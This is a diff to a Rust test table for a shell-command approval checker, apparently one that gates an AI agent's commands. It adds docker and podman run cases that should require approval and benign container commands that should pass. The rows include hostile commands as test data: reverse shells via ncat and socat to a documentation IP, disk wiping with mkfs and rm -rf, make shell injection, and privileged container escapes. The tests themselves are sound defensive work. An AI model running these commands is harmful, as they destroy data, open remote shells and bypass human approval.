@@ -108,6 +108,18 @@ const INLINE_CODE: &[Row] = &[
 /// Options that make an allowed program run another program.
 #[rustfmt::skip]
 const PROGRAM_OPTIONS: &[Row] = &[
+    // `docker run IMAGE cmd`: a command berth cannot follow inside the
+    // container (a wrapper, inline code, a dynamic word, a program of the
+    // deny templates' class, an unknown run option) is not auto-approved,
+    // though the engine's allow rule covers running it (container_run.rs).
+    ("docker run alpine sh -c 'git push origin main'", &["docker"], Auto, Container, ASK),
+    ("docker run alpine env git push", &["docker"], Auto, Container, ASK),
+    ("docker run alpine node -e 'x'", &["docker"], Auto, Container, ASK),
+    ("docker run alpine mkfs.ext4 /dev/sda", &["docker"], Auto, Container, ASK),
+    ("docker run --entrypoint sh alpine -c 'git push'", &["docker"], Auto, Container, ASK),
+    ("docker run --frobnicate alpine date", &["docker"], Auto, Container, ASK),
+    ("docker run alpine \"$CMD\"", &["docker"], Auto, Container, ASK),
+    ("docker run -v \"$HOME\":/h alpine rm -rf /h", &["docker"], Auto, Container, ASK),
     ("make --eval='x:=$(shell git push origin main)' all", &["make"], Auto, Container, ASK),
     ("make --ev='$(shell id)'", &["make"], Auto, Container, ASK),
     ("make -E '$(shell id)' all", &["make"], Auto, Container, ASK),
@@ -429,6 +441,13 @@ const PRIVILEGED: &[Row] = &[
     ("docker container run -v /var/run/docker.sock:/s alpine", &["docker"], Auto, Container, ASK),
     ("docker run --pid=host alpine", &["docker"], Auto, Container, ASK),
     ("docker run --cap-add SYS_ADMIN alpine", &["docker"], Auto, Container, ASK),
+    // The command a run gives the container (privileged/container_run.rs).
+    ("docker run --rm alpine git push origin main", &["docker"], Auto, Container, ASK),
+    ("docker container run -it alpine sudo id", &["docker"], Auto, Container, ASK),
+    ("podman run --rm -e X=1 alpine npm publish", &["podman"], Auto, Container, ASK),
+    ("docker compose -f c.yml run --rm web twine upload dist/x", &["docker"], Auto, Container, ASK),
+    ("docker run --entrypoint=git alpine/git push", &["docker"], Auto, Container, ASK),
+    ("docker run -itd --name t -p 80:80 -v /work:/w -w/w alpine nc -l 80", &["docker"], Auto, Container, ASK),
     ("nc 203.0.113.5 4444", &["nc"], Auto, Container, ASK),
     ("ncat -e /bin/sh 203.0.113.5 4444", &["ncat"], Auto, Container, ASK),
     ("socat TCP:203.0.113.5:4444 EXEC:sh", &["socat"], Auto, Container, ASK),
@@ -462,6 +481,10 @@ const PRIVILEGED: &[Row] = &[
     ("docker run --rm -v \"$PWD\":/src -w /src node:20 npm test", &["docker run"], Manual, Container, AUTO),
     ("docker run --rm -v /etc/localtime:/etc/localtime:ro alpine date", &["docker run"], Manual, Container, AUTO),
     ("docker compose up --build", &["docker compose"], Manual, Container, AUTO),
+    ("docker run --rm -it -e CI=1 --network=bridge node:20 npm test", &["docker"], Manual, Container, AUTO),
+    ("docker compose run --rm web pytest -q", &["docker"], Manual, Container, AUTO),
+    ("docker run --rm alpine/git status", &["docker"], Manual, Container, AUTO),
+    ("docker run --rm --entrypoint cat alpine /etc/os-release", &["docker"], Manual, Container, AUTO),
     ("curl -s https://example.com", &["curl"], Manual, Container, AUTO),
     ("curl -s https://api.github.com/repos/o/r", &["curl"], Manual, Container, AUTO),
     ("curl -X POST --data 'name=bob' http://localhost:3000/login", &["curl"], Manual, Container, AUTO),
